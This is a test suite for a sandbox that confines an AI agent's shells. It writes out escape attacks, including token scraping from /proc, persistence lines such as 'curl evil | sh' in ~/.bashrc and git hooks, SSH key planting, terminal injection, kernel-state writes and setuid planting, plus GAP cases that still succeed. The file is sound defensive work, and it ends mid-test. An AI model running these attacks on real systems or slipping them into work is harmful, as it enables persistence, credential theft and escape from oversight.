#!/usr/bin/env bats
# Escapes from the sandbox, tried the way an agent would: the agent (a
# Python launch root holding the secrets) runs bash -c ATTACK, which the
# real shim sends into envshim-sandbox.  The agent is an unprivileged user
# (uid 65534 when the suite is root), and, in the "root agent" cases and
# the root halves of the others, root itself, as devcontainers and CI run
# agents (those need the suite to run as root).  Where an attack works without
# the sandbox, a control run shows it, so each case can fail; where the
# design cannot stop an attack, a GAP case shows it still works.

load ../common

setup() {
	# Outside /tmp: the sandbox's /tmp is private, and a home or workspace
	# under it would hide what an attack did instead of stopping it.  (A
	# session's /var/tmp is private too; the helper binds the home, the
	# workspace and the shim back at their paths.)
	R=$(mktemp -d /var/tmp/envshim-esc.XXXXXX)
	chmod 755 "$R"
	mkdir -p "$R/home/.ssh" "$R/home/.config" "$R/ws" "$R/state" "$R/bin" "$R/run"
	cp "$SHIM" "$HELPER" "$BUILD/progs/spawn" "$BUILD/progs/static_craft" "$R/bin/"
	chmod -R a+rX "$R/bin"
	SHIM=$R/bin/libenvshim.so
	echo 'PRIVATE KEY' >"$R/home/.ssh/id_ed25519"
	echo '# bashrc' >"$R/home/.bashrc"
	git init -q "$R/ws"
	if [ "$(id -u)" = 0 ]; then
		chown -R 65534:65534 "$R/home" "$R/ws" "$R/state" "$R/run"
	fi
	chmod 700 "$R/run"
	cd "$R/ws"
}

teardown() {
	[ -n "${BGPID:-}" ] && kill "$BGPID" 2>/dev/null
	[ -n "${P1:-}" ] && kill "$P1" "$P2" 2>/dev/null
	[ -n "${PIDS:-}" ] && kill $PIDS 2>/dev/null
	[ -n "${RUNDIR:-}" ] && rm -rf "$RUNDIR"
	[ -n "${RAMFS:-}" ] && umount "$RAMFS"
	cd /
	rm -rf "$R"
}

# pol LINE...: the agent's policy file (owned by the agent's user).
pol() {
	printf '%s\n' "$@" >"$R/home/policy"
	chmod 644 "$R/home/policy"
	[ "$(id -u)" = 0 ] && chown 65534:65534 "$R/home/policy"
	POLICY=$R/home/policy
}

# sbx_agent ATTACK: the agent runs `bash -c ATTACK` with subprocess; the
# text AGENTPID in ATTACK becomes the agent's pid.
sbx_agent() {
	"${RUN_AS:-as_nobody}" env -i HOME="$R/home" PATH=/usr/local/bin:/usr/bin:/bin LANG=C.UTF-8 \
		XDG_STATE_HOME="$R/state" XDG_RUNTIME_DIR="$R/run" GITHUB_TOKEN="$GH" \
		SSH_AUTH_SOCK="$R/run/agent.sock" ${POLICY:+ENVSHIM_POLICY=$POLICY} \
		LD_PRELOAD="$SHIM" /usr/bin/python3 -c '
import os, subprocess, sys
attack = sys.argv[1].replace("AGENTPID", str(os.getpid()))
sys.exit(subprocess.run(["bash", "-c", attack]).returncode)' "$1"
}

# The same attack with no sandbox and no protect-self: the control.
open_agent() {
	pol 'sandbox off' 'protect-self no'
	sbx_agent "$1"
	unset POLICY
}

# sbx_root [--contain] ATTACK: the agent of sbx_agent as root, which is
# how devcontainers and CI run agents, with a home (0700, its state
# directory in it) and workspace of root's own.  Its shells run as an
# unprivileged kernel uid where the helper can idmap what they bind;
# with --contain, under `envshim --contain`, whose root is 65533 inside
# and kernel uid 0 all the same, they cannot.  $RPOLICY: root's policy.
sbx_root() {
	local pre=(LD_PRELOAD="$SHIM")
	# contain mode preloads its own shim, through /etc/ld.so.preload
	if [ "$1" = --contain ]; then pre=("$ENVSHIM" --contain --); shift; fi
	mkdir -p "$R/rhome" "$R/rws"
	chmod 700 "$R/rhome"
	(cd "$R/rws" && env -i HOME="$R/rhome" PATH=/usr/local/bin:/usr/bin:/bin \
		LANG=C.UTF-8 XDG_RUNTIME_DIR="${RRUN:-$R/rrun}" \
		GITHUB_TOKEN="$GH" ${RPOLICY:+ENVSHIM_POLICY=$RPOLICY} "${RENV[@]}" \
		"${pre[@]}" /usr/bin/python3 -c '
import os, subprocess, sys
sys.exit(subprocess.run(["bash", "-c", sys.argv[1]]).returncode)' "$1")
}

# The same as root with no sandbox: the control.
open_root() {
	printf 'sandbox off\nprotect-self no\n' >"$R/rpolicy"
	chmod 644 "$R/rpolicy"
	RPOLICY=$R/rpolicy sbx_root "$1"
}

# listen KIND ADDR: a listener outside, as the unprivileged user, that
# answers "hello" to whoever connects.
listen() {
	local as=()
	[ "$(id -u)" = 0 ] && as=(setpriv --reuid=65534 --regid=65534 --clear-groups)
	# setpriv execs, so $! is the listener; no fd of bats' may stay open.
	"${as[@]}" /usr/bin/python3 -c '
import socket, sys
kind, addr = sys.argv[1], sys.argv[2]
if kind == "tcp":
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", int(addr)))
else:
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0" + addr if kind == "abstract" else addr)
s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b"hello\n"); c.close()' "$1" "$2" \
		</dev/null >/dev/null 2>&1 3>&- &
	BGPID=$!
	local i
	for i in $(seq 50); do
		case $1 in
		tcp) python3 -c "import socket; socket.create_connection(('127.0.0.1', $2), 1)" 2>/dev/null && break ;;
		abstract) grep -q "@$2" /proc/net/unix && break ;;
		*) [ -S "$2" ] && break ;;
		esac
		sleep 0.1
	done
}

# A client the attack runs: prints what the listener said, or "blocked".
CONNECT='python3 -c "
import socket, sys
kind, addr = sys.argv[1], sys.argv[2]
try:
    if kind == \"tcp\":
        s = socket.create_connection((\"127.0.0.1\", int(addr)), 2)
    else:
        s = socket.socket(socket.AF_UNIX)
        s.connect(\"\\0\" + addr if kind == \"abstract\" else addr)
    print(s.recv(16).decode().strip())
except OSError as e:
    print(\"blocked\", e.errno)
"'

@test "the agent's /proc/PID/environ, cmdline and mem are out of reach (control: readable without the sandbox)" {
	local attack='
for f in environ mem; do
	if python3 -c "import sys; d = open(\"/proc/AGENTPID/$f\", \"rb\").read(1 << 20) if \"$f\" == \"environ\" else open(\"/proc/AGENTPID/$f\", \"rb\").read(1); print(\"read $f\")" 2>/dev/null
	then :; else echo "denied $f"; fi
done
python3 -c "
import glob
secret = \"ghp\" + \"_abcdefghij\"   # not spelt out: this text is in a cmdline
for f in glob.glob(\"/proc/[0-9]*/environ\") + glob.glob(\"/proc/[0-9]*/cmdline\"):
    try:
        if secret.encode() in open(f, \"rb\").read():
            print(\"found\", f)
    except OSError:
        pass"
kill -0 AGENTPID 2>/dev/null && echo "agent visible"
true'
	run open_agent "$attack"
	grep -qx 'read environ' <<<"$output"
	grep -qx 'agent visible' <<<"$output"
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	grep -qx 'denied environ' <<<"$output"
	grep -qx 'denied mem' <<<"$output"
	! grep -q -e '^found' -e 'agent visible' -e '^read' <<<"$output"
}

@test "ptrace and process_vm_readv of the agent fail (control: the agent is visible without the sandbox)" {
	local attack='python3 -c "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pid = AGENTPID
r = libc.ptrace(0x4206, pid, None, None)   # PTRACE_SEIZE: no stop
print(\"seize\", r, os.strerror(ctypes.get_errno()))
class iov(ctypes.Structure):
    _fields_ = [(\"base\", ctypes.c_void_p), (\"len\", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(64)
local = iov(ctypes.addressof(buf), 64); remote = iov(0x400000, 64)
r = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
print(\"vm_readv\", r, os.strerror(ctypes.get_errno()))
# Every pid the sandbox can see, by what it runs.
for p in os.listdir(\"/proc\"):
    if p.isdigit():
        try: print(\"pid\", p, open(\"/proc/%s/comm\" % p).read().strip())
        except OSError: pass
"'
	run open_agent "$attack"
	grep -q 'pid [0-9]* python3' <<<"$output"
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	grep -q '^seize -1 No such process' <<<"$output"
	grep -q '^vm_readv -1 No such process' <<<"$output"
	# Only the sandbox's own handful: the helper as pid 1, the shell, python.
	[ "$(grep -c '^pid ' <<<"$output")" -le 4 ]
	grep -qx 'pid 1 envshim-sandbox' <<<"$output"
	! grep -q -e 'pid [0-9]* spawn' -e 'pid [0-9]* bats' -e 'pid [0-9]* systemd' <<<"$output"
}

@test "TIOCSTI and TIOCLINUX injection into the agent's terminal fail under a real pty (control: TIOCSTI works without)" {
	# The attack types a command into every terminal it can reach; then
	# the agent's shell reads the next line from its terminal: the
	# injected one if it got there, else what the user types next.
	local attack='python3 -c "
import fcntl, termios, os
fds = [0, 1, 2]
try:
    fds.append(os.open(\"/dev/tty\", os.O_RDWR))
except OSError as e:
    print(\"devtty\", e.errno)
for fd in fds:
    try:
        for c in \"echo INJECTED\\n\":
            fcntl.ioctl(fd, termios.TIOCSTI, c.encode())
        print(\"tiocsti\", fd, \"ok\")
    except OSError as e:
        print(\"tiocsti\", fd, e.errno)
try:
    fcntl.ioctl(0, 0x541C, bytes([2]) + bytes(10))   # TIOCLINUX, TIOCL_SETSEL
    print(\"tioclinux ok\")
except OSError as e:
    print(\"tioclinux\", e.errno)
"'
	local then='; echo DONE; read -r line; echo "GOT:$line"'
	export -f sbx_agent open_agent pol as_nobody
	export R GH SHIM ATTACK="$attack"
	run python3 "$BATS_TEST_DIRNAME/../../progs/ptyrun.py" expect:DONE 'send:typed\n' -- \
		bash -c "open_agent \"\$ATTACK\"$then"
	# Kernels from 6.2 may forbid TIOCSTI to everyone (legacy_tiocsti=0).
	if [ "$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null)" != 0 ]; then
		grep -qx 'GOT:echo INJECTED' <<<"$output"
	fi
	# TIOCLINUX needs a virtual console: a pty refuses it with or without
	# the sandbox, so the TIOCLINUX line below is no sandbox property.
	grep -q '^tioclinux [0-9]' <<<"$output"
	# Inside, the command's terminal is its own: whatever it types there
	# goes to itself, and dies with it.
	run python3 "$BATS_TEST_DIRNAME/../../progs/ptyrun.py" expect:DONE 'send:typed\n' -- \
		bash -c "sbx_agent \"\$ATTACK\"$then"
	grep -q '^tiocsti 3 ' <<<"$output"
	grep -qx 'GOT:typed' <<<"$output"
	grep -q '^tioclinux [0-9]' <<<"$output"
	lacks -e 'GOT:echo' -e 'tioclinux ok'
}

@test "persistence: ~/.bashrc, ~/.profile, ~/.ssh, .git/hooks, .git/config cannot be written or moved" {
	local attack='
cd "$PWD"
echo "curl evil | sh" >>~/.bashrc
echo "curl evil | sh" >~/.profile
mkdir -p ~/.config/autostart && echo x >~/.config/autostart/evil.desktop
echo "ssh-ed25519 AAAA evil" >>~/.ssh/authorized_keys
printf "#!/bin/sh\ncurl evil | sh\n" >.git/hooks/pre-commit
git config core.hooksPath /tmp/hooks
git config core.fsmonitor "curl evil | sh"
mv .git/hooks .git/hooks.old
rm -rf .git/hooks
mv .git/config .git/config.old
echo "ws-write-ok" >ws-file
true'
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	[ "$(cat "$R/home/.bashrc")" = '# bashrc' ]
	[ ! -e "$R/home/.profile" ]
	[ ! -e "$R/home/.config/autostart" ]
	[ ! -e "$R/home/.ssh/authorized_keys" ]
	[ ! -e "$R/ws/.git/hooks/pre-commit" ]
	[ -d "$R/ws/.git/hooks" ]
	[ -f "$R/ws/.git/config" ]
	! grep -q -e hooksPath -e fsmonitor "$R/ws/.git/config" || false
	# The workspace itself stays writable: the attack really ran.
	[ "$(cat "$R/ws/ws-file")" = ws-write-ok ]
}

@test "symlinks and hard links out of the workspace do not reach home" {
	ln -s "$R/home/.ssh" "$R/ws/keys"
	ln -s "$R/home" "$R/ws/myhome"
	local attack='
cd "$PWD"
cat keys/id_ed25519 2>&1 | sed "s/^/key: /"
echo evil >myhome/.bashrc 2>/dev/null && echo "wrote through symlink"
ln ~/.bashrc hard 2>/dev/null && { echo evil >>hard; echo "hard link made"; }
ln ~/.ssh/id_ed25519 hardkey 2>/dev/null && echo "key hard link made"
true'
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	# The attack ran, and the links led nowhere useful: the key is an
	# empty file in its place (cat prints nothing, not even an error), and
	# the write through the symlink landed in the run's layer of the home.
	lacks '^key: '
	! grep -q 'PRIVATE KEY' <<<"$output" || false
	! grep -q 'hard link made' <<<"$output" || false
	[ "$(cat "$R/home/.bashrc")" = '# bashrc' ]
	# Control: without the sandbox the same links reach home.
	rm -f "$R/ws/hard" "$R/ws/hardkey"
	run open_agent "$attack"
	grep -qx 'key: PRIVATE KEY' <<<"$output"
	grep -qx 'wrote through symlink' <<<"$output"
}

@test "GAP: a symlink the sandbox plants in the workspace redirects the unsandboxed agent later" {
	run sbx_agent 'cd "$PWD"; ln -s ~/.bashrc NOTES.md'
	[ "$status" -eq 0 ]
	# The leak is real: the link outlives the sandbox and points out of it.
	[ "$(readlink "$R/ws/NOTES.md")" = "$R/home/.bashrc" ]
	# What covers it: nothing in envshim - the agent's own file tools must
	# not follow links out of the workspace.
	echo appended >>"$R/ws/NOTES.md"
	grep -qx appended "$R/home/.bashrc"
}

@test "GAP: a planted .git/commondir redirects git's config and hooks; 'ro .git' closes it" {
	git -C "$R/ws" commit -q --allow-empty -m init 2>/dev/null ||
		as_nobody git -C "$R/ws" -c user.email=a@b -c user.name=a commit -q --allow-empty -m init
	local attack='
cd "$PWD"
cp -r .git evil.git
printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"echo PWNED >&2; false\"\n" >evil.git/config
echo ../evil.git >.git/commondir && echo planted'
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	grep -qx planted <<<"$output"
	# The leak is real: the agent's next git, outside, runs the command.
	run as_nobody env HOME="$R/home" git -C "$R/ws" status
	grep -q PWNED <<<"$output"
	# What covers it: 'ro .git' (the sandbox's git can still read).
	rm -rf "$R/ws/.git/commondir" "$R/ws/evil.git"
	pol 'ro .git'
	run sbx_agent "$attack; git status --short >/dev/null && echo git-reads"
	[ "$status" -eq 0 ]
	grep -qx git-reads <<<"$output"
	! grep -qx planted <<<"$output" || false
	[ ! -e "$R/ws/.git/commondir" ]
	run as_nobody env HOME="$R/home" git -C "$R/ws" status
	[ "$status" -eq 0 ]
	grep -q '^On branch' <<<"$output"
	! grep -q PWNED <<<"$output"
}

@test "unix sockets outside: ssh agent, D-Bus, docker-style path socket are unreachable" {
	listen unix "$R/run/agent.sock"
	P1=$BGPID
	listen unix "$R/run/bus"
	P2=$BGPID
	run sbx_agent "$CONNECT unix $R/run/agent.sock; $CONNECT unix $R/run/bus; echo sock=\$SSH_AUTH_SOCK"
	kill "$P1" "$P2"; P1=
	BGPID=
	[ "$status" -eq 0 ]
	! grep -qx hello <<<"$output" || false
	[ "$(grep -c '^blocked' <<<"$output")" -eq 2 ]
	grep -qx 'sock=' <<<"$output"
	# Control: the same socket answers from outside.
	rm -f "$R/run/bus"
	listen unix "$R/run/bus"
	run as_nobody env PATH=/usr/bin:/bin bash -c "$CONNECT unix $R/run/bus"
	[ "$output" = hello ]
}

@test "network off: an abstract socket and a loopback listener outside are unreachable" {
	listen abstract "envshim-esc-$$"
	P1=$BGPID
	listen tcp 47391
	P2=$BGPID
	pol 'network off'
	run sbx_agent "$CONNECT abstract envshim-esc-$$; $CONNECT tcp 47391"
	kill "$P1" "$P2"; P1=
	BGPID=
	[ "$status" -eq 0 ]
	! grep -qx hello <<<"$output" || false
	[ "$(grep -c '^blocked' <<<"$output")" -eq 2 ]
}

@test "network on (the default): abstract sockets outside are out of reach with Landlock, and a gap without it" {
	listen abstract "envshim-esc-$$"
	# Control: the listener answers a plain child of the agent.
	run as_nobody env PATH=/usr/bin:/bin bash -c "$CONNECT abstract envshim-esc-$$"
	[ "$output" = hello ]
	run sbx_agent "$CONNECT abstract envshim-esc-$$; $CONNECT abstract envshim-esc-$$"
	[ "$status" -eq 0 ]
	abi=$(python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(444, None, 0, 1))')
	if [ "$abi" -ge 6 ]; then
		# Landlock scopes them to the sandbox (EPERM), both times.
		[ "$(grep -cx 'blocked 1' <<<"$output")" -eq 2 ]
	else
		# GAP on Linux < 6.12: abstract sockets belong to the network
		# namespace, so X11's @/tmp/.X11-unix/X0 and the like answer.
		# What covers it there: 'network off' (previous test).
		[ "$(grep -cx hello <<<"$output")" -eq 2 ]
	fi
}

@test "signals: a pidfd of an outside process handed to a shell does not reach the sandbox (control: it signals outside)" {
	cat >"$R/ws/sig.py" <<'EOF'
import signal, sys
try:
    signal.pidfd_send_signal(int(sys.argv[1]), signal.SIGTERM)
    print("signal sent")
except OSError as e:
    print("signal", e.errno)
EOF
	chmod 644 "$R/ws/sig.py"
	# The agent holds a pidfd of a process of its own and lets it leak
	# into a shell (sandboxed) and into python directly (the control,
	# outside under `sandbox shells`).
	pol 'sandbox shells'
	run as_nobody env -i HOME="$R/home" PATH=/usr/bin:/bin XDG_STATE_HOME="$R/state" \
		ENVSHIM_POLICY="$POLICY" LD_PRELOAD="$SHIM" python3 -c '
import os, subprocess
def victim():
    v = subprocess.Popen(["/usr/bin/sleep", "30"])
    fd = os.pidfd_open(v.pid)
    os.set_inheritable(fd, True)
    return v, fd
v, fd = victim()
subprocess.run(["bash", "-c", "echo -n \"shell: \"; python3 sig.py %d" % fd], pass_fds=(fd,))
print("victim", "alive" if v.poll() is None else "killed", flush=True)
v.kill(); v.wait()
v, fd = victim()
subprocess.run(["/usr/bin/python3", "sig.py", str(fd)], pass_fds=(fd,))
v.wait(5)
print("victim killed")'
	[ "$status" -eq 0 ]
	[ "${lines[2]}" = "signal sent" ]
	[ "${lines[3]}" = "victim killed" ]
	# The descriptor no longer crosses into the sandbox (EBADF: only 0-2
	# do); were it there, the pid namespace would refuse it (EINVAL) and
	# Landlock's signal scope (Linux 6.12+) too (EPERM).
	[ "${lines[0]}" = "shell: signal 9" ]
	[ "${lines[1]}" = "victim alive" ]
}

@test "keyrings: a key in the agent's session keyring cannot be read from the sandbox (control: a plain child can)" {
	cat >"$R/ws/keys.py" <<'EOF'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
# KEYCTL_SEARCH the session keyring (-3) for the agent's key, then KEYCTL_READ.
kid = libc.syscall(250, 10, -3, b"user", b"envshim-esc", 0)
if kid < 0:
    print("search", os.strerror(ctypes.get_errno()))
else:
    buf = ctypes.create_string_buffer(64)
    n = libc.syscall(250, 11, kid, buf, 64)
    print("read", n, buf.value.decode(errors="replace"))
EOF
	chmod 644 "$R/ws/keys.py"
	# The agent keeps a credential in a session keyring of its own, then
	# runs the probe in a shell (sandboxed) and directly (the control,
	# outside under `sandbox shells`).
	pol 'sandbox shells'
	run as_nobody env -i HOME="$R/home" PATH=/usr/bin:/bin XDG_STATE_HOME="$R/state" \
		ENVSHIM_POLICY="$POLICY" LD_PRELOAD="$SHIM" python3 -c '
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(250, 1, None)                  # KEYCTL_JOIN_SESSION_KEYRING, anonymous
k = libc.syscall(248, b"user", b"envshim-esc", b"hunter2key", 10, -3)
assert k > 0, ctypes.get_errno()
subprocess.run(["bash", "-c", "echo -n \"shell: \"; python3 keys.py"])
subprocess.run(["/usr/bin/python3", "keys.py"])'
	[ "$status" -eq 0 ]
	grep -q '^read [0-9]* hunter2key$' <<<"${lines[1]}"
	# the probe ran inside, and its search found nothing
	grep -q '^shell: search ' <<<"${lines[0]}"
	! grep -q hunter2key <<<"${lines[0]}"
}

@test "mounting and a nested user namespace cannot undo the read-only root or the hidden ~/.ssh" {
	# unshare runs without the shim (through a static program that drops
	# LD_PRELOAD), so it is dumpable and may map itself in a nested userns.
	local attack='
mount -t tmpfs none "$HOME" 2>/dev/null && echo "mounted"
BIN/static_craft -u LD_PRELOAD -- /usr/bin/unshare -Urm sh -c "
	echo nested-userns
	mount -o remount,rw / 2>/dev/null && echo remounted-root
	mount -o remount,rw,bind \"\$HOME\" 2>/dev/null && echo remounted-home
	umount \"\$HOME/.ssh\" 2>/dev/null && echo unmounted-ssh
	umount -l \"\$HOME/.ssh\" 2>/dev/null && echo unmounted-ssh
	cat \"\$HOME/.ssh/id_ed25519\" 2>/dev/null
	mount -t tmpfs none /mnt 2>/dev/null && echo tmpfs-ok
	echo evil >>\"\$HOME/.bashrc\" 2>/dev/null && echo wrote-bashrc
	true"
BIN/static_craft -u LD_PRELOAD -- /usr/bin/unshare -Urpf --mount-proc sh -c "ls /proc | grep -c \"^[0-9]\"" | sed "s/^/nested pids: /"
true'
	# a session's /var/tmp is its own: the tool goes where shells see it
	cp "$R/bin/static_craft" "$R/ws/"
	run sbx_agent "${attack//BIN/$R/ws}"
	[ "$status" -eq 0 ]
	# The nested namespace is real (the test can fail) ...
	grep -qx nested-userns <<<"$output"
	grep -qx tmpfs-ok <<<"$output"
	# ... and gains nothing over the sandbox's own mounts.  The home is
	# the run's writable layer already (remounting it, writing there is
	# allowed); the real file is what must stay.
	! grep -q -e '^mounted' -e remounted-root -e unmounted -e 'PRIVATE KEY' <<<"$output" || false
	[ "$(cat "$R/home/.bashrc")" = '# bashrc' ]
	grep -q '^nested pids: [0-9]$' <<<"$output"
}

# What a root agent's shell tries on the kernel's own state: each file is
# opened for writing and closed unwritten (the open is where the kernel
# checks), each root-only file read, and a nested user namespace asked
# for a cgroup2 whose root-owned files it would then write.
ROOT_KERNEL='python3 -c "
import ctypes, os
for f in (\"/proc/sys/kernel/core_pattern\", \"/proc/sys/kernel/modprobe\",
          \"/proc/sys/vm/drop_caches\", \"/proc/sys/kernel/panic\",
          \"/proc/sys/net/ipv4/ip_forward\", \"/proc/sysrq-trigger\",
          \"/proc/irq/default_smp_affinity\", \"/proc/sys/fs/protected_symlinks\"):
    if not os.path.exists(f):
        continue
    try:
        os.close(os.open(f, os.O_WRONLY)); print(\"writable\", f)
    except OSError as e:
        print(\"denied\", f, e.errno)
print(\"user keyrings\", open(\"/proc/keys\").read().count(\"_uid\"))
for f in (\"/proc/slabinfo\", \"/proc/timer_list\", \"/proc/keys\", \"/proc/pagetypeinfo\"):
    try:
        print(\"read\", f, len(open(f, \"rb\").read()))
    except OSError as e:
        print(\"unread\", f, e.errno)
print(\"firmware\", len(os.listdir(\"/sys/firmware\")))
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000 | 0x02000000) != 0:
    print(\"no nested userns\", ctypes.get_errno())
elif libc.mount(b\"none\", b\"/dev/shm\", b\"cgroup2\", 0, None) != 0:
    print(\"no cgroup2\", ctypes.get_errno())
else:
    try:
        os.close(os.open(\"/dev/shm/cgroup.subtree_control\", os.O_WRONLY))
        print(\"writable cgroup.subtree_control\")
    except OSError as e:
        print(\"denied cgroup\", e.errno)
"'

# The kernel-state attack's results, whichever sandbox root got: the one
# as an unprivileged uid (EACCES on what root owns) or the kernel-uid-0
# one of contain mode (EROFS on the read-only /proc, masked files read
# empty, no nested user namespace).
kernel_closed() {
	[ "$status" -eq 0 ]
	# the attack ran, and got nowhere
	grep -qE '^denied /proc/sys/kernel/core_pattern (13|30)$' <<<"$output"
	[ "$(grep -c '^denied /proc' <<<"$output")" -ge 6 ]
	lacks '^writable '
	for f in slabinfo timer_list; do
		grep -qE "^(read /proc/$f 0|unread /proc/$f 13)$" <<<"$output"
	done
	# root's keyrings (_uid.0, _uid_ses.0) are not listed
	grep -qx 'user keyrings 0' <<<"$output"
	grep -qE '^firmware 0$' <<<"$output"
	grep -qE '^(no nested userns|no cgroup2|denied cgroup) ' <<<"$output"
}

@test "root agent: /proc/sys, sysrq-trigger, irq and the rest of the kernel's state are not writable, root-only files not readable, no writable nested cgroup2 (control: writable without the sandbox)" {
	[ "$(id -u)" = 0 ] || skip "the attack is a root agent's"
	run open_root "$ROOT_KERNEL"
	grep -qx 'writable /proc/sys/kernel/core_pattern' <<<"$output"
	grep -qx 'writable /proc/sys/vm/drop_caches' <<<"$output"
	grep -q '^read /proc/slabinfo [1-9]' <<<"$output"
	lacks -x 'user keyrings 0'
	run sbx_root "$ROOT_KERNEL"
	[ "$status" -eq 0 ]
	kernel_closed
}

@test "root agent under --contain (root is 65533 inside, kernel uid 0): the same /proc and cgroup2 attacks fail (control: writable without the sandbox)" {
	[ "$(id -u)" = 0 ] || skip "the attack is a root agent's"
	run open_root "$ROOT_KERNEL"
	grep -qx 'writable /proc/sys/kernel/core_pattern' <<<"$output"
	run sbx_root --contain "id -u; $ROOT_KERNEL"
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = 65533 ]
	kernel_closed
	# kernel uid 0: the read-only covers, the masks, no nested namespace
	grep -qx 'denied /proc/sys/kernel/core_pattern 30' <<<"$output"
	grep -qx 'read /proc/slabinfo 0' <<<"$output"
	grep -q '^no nested userns ' <<<"$output"
}

@test "root agent: its shells run as a kernel uid that owns nothing, yet the workspace, root's 0700 home and the session's /tmp work as root's (control: root reads /etc/shadow)" {
	[ "$(id -u)" = 0 ] || skip "the attack is a root agent's"
	mkdir -p "$R/rhome"
	echo 'root note' >"$R/rhome/.note"
	chmod 600 "$R/rhome/.note"
	look='cat /proc/self/uid_map; head -c 5 /etc/shadow >/dev/null 2>&1 && echo read-shadow
cat ~/.note; echo made >made; echo t >/tmp/t && cat /tmp/t; echo l >~/.layered && cat ~/.layered
ls -n made | cut -d" " -f3'
	run open_root "$look"
	grep -qx read-shadow <<<"$output"
	rm "$R/rhome/.layered" "$R/rws/made"
	run sbx_root "$look"
	[ "$status" -eq 0 ]
	# inside, root; outside, ES_SBX_ROOT_KUID
	[ "$(echo ${lines[0]})" = "0 65532 1" ]
	lacks -x read-shadow
	[ "${lines[1]}" = "root note" ]
	[ "${lines[2]}" = t ]
	[ "${lines[3]}" = l ]
	# what it made is root's on the disk, as an unconfined root's would be
	[ "${lines[4]}" = 0 ]
	[ "$(stat -c %u "$R/rws/made")" = 0 ]
	# the home's layer took the write, the real home did not
	[ ! -e "$R/rhome/.layered" ]
}

@test "root agent whose workspace cannot be idmapped (ramfs) gets the kernel-uid-0 sandbox, closed all the same" {
	[ "$(id -u)" = 0 ] || skip "the attack is a root agent's"
	mkdir -p "$R/rws"
	mount -t ramfs envshim-esc "$R/rws"
	RAMFS=$R/rws
	run sbx_root "cat /proc/self/uid_map; echo made >made && echo ws-ok; $ROOT_KERNEL"
	[ "$status" -eq 0 ]
	[ "$(echo ${lines[0]})" = "0 0 1" ]
	[ "${lines[1]}" = ws-ok ]
	kernel_closed
	grep -qx 'denied /proc/sys/kernel/core_pattern 30' <<<"$output"
}

@test "root agent with its kept home layer in a state directory closed to others gets the kernel-uid-0 sandbox, and runs" {
	[ "$(id -u)" = 0 ] || skip "the attack is a root agent's"
	mkdir -p "$R/rstate"
	chmod 700 "$R/rstate"
	# (the log elsewhere: only the layer is behind the closed directory)
	printf 'home-layer workspace\nlog %s\n' "$R/rlog.jsonl" >"$R/rpolicy"
	chmod 644 "$R/rpolicy"
	RENV=(XDG_STATE_HOME="$R/rstate")
	RPOLICY=$R/rpolicy run sbx_root "cat /proc/self/uid_map; echo l >~/.layered && cat ~/.layered; $ROOT_KERNEL"
	RENV=()
	[ "$status" -eq 0 ]
	[ "$(echo ${lines[0]})" = "0 0 1" ]
	[ "${lines[1]}" = l ]
	kernel_closed
}

@test "root agent: its shell cannot leave a setuid or setgid file of root's in the workspace, by chmod, open, mknod or cp -p (control: it can without the sandbox)" {
	[ "$(id -u)" = 0 ] || skip "the attack is a root agent's"
	plant='cp /bin/sh s1; chmod 4755 s1; chmod g+s s1
python3 -c "import os; os.close(os.open(\"s2\", os.O_CREAT | os.O_WRONLY, 0o4755))"
python3 -c "import os; os.mknod(\"s3\", 0o102755)"
install -m 4755 /bin/sh s4; cp -p /usr/bin/passwd s5 2>/dev/null
find . -maxdepth 1 -perm /6000 -name "s*" | sort | tr "\n" " "; echo'
	run open_root "$plant"
	[[ "$output" == *./s1*./s2*./s3*./s4* ]]
	rm -f "$R"/rws/s[1-5]
	run sbx_root "$plant"
	[ "$status" -eq 0 ]
	grep -q "s1': Operation not permitted" <<<"$output"
	lacks '\./s[1-5]'
	[ -e "$R/rws/s1" ]
	[ -z "$(find "$R/rws" -perm /6000)" ]
	run sbx_root --contain "$plant"
	[ "$status" -eq 0 ]
	[ -z "$(find "$R/rws" -perm /6000)" ]
}

@test "root agent: io_uring's openat leaves no setuid file of root's either (control: it does without the sandbox)" {
	[ "$(id -u)" = 0 ] || skip "the attack is a root agent's"
	# the build tree: the sandbox's /var/tmp is the session's, not $R
	local u=$BUILD/progs/uring_open
	plant="$u u1 4755; $u u2 6755; find . -maxdepth 1 -perm /6000 -name 'u*' | sort | tr '\n' ' '; echo"
	run open_root "$plant"
	[[ "$output" == *./u1*./u2* ]]
	rm -f "$R"/rws/u[12]
	for mode in "" --contain; do
		run sbx_root $mode "$plant"
		[ "$status" -eq 0 ]
		grep -q 'setup=-38' <<<"$output"
		[ -z "$(find "$R/rws" -perm /6000)" ]
	done
}

# Opens each device node for writing, closes it unwritten.
OPEN_DEV='python3 -c "
import os, sys
for f in sys.argv[1:]:
    try:
        os.close(os.open(f, os.O_WRONLY)); print(\"opened\", os.path.basename(f))
    except OSError as e:
        print(\"refused\", os.path.basename(f), e.errno)
"'

# dev_case NAME CONTROL SANDBOXED: a device node of the runner's, NAME in
# the workspace, opens under CONTROL and not under SANDBOXED, where the
# sandbox's own /dev/null still does.
dev_case() {
	run "$2" "$OPEN_DEV $1"
	grep -qx "opened ${1##*/}" <<<"$output"
	run "$3" "$OPEN_DEV $1 /dev/null"
	[ "$status" -eq 0 ]
	grep -qx "refused ${1##*/} 13" <<<"$output"
	grep -qx 'opened null' <<<"$output"
}

@test "device nodes on the host's file systems do not open inside, for the user or root (control: they do without the sandbox)" {
	# /dev/null's numbers under another name: what a chroot's /dev/sda
	# or a stray copy of /dev/kvm would be, owned by whoever runs
	mknod "$R/ws/mine" c 1 3
